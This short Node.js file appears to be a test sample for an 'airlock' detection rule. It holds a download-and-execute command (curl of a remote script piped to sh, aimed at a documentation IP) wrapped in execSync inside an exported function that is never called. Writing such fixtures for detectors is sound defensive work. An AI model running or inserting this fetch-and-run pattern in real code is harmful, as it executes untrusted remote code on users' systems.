// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { execSync } = require('child_process');
const STAGE = "curl -s http://192.0.2.40/s.sh | sh";
function never() {
  execSync(STAGE);
}
module.exports = { never };
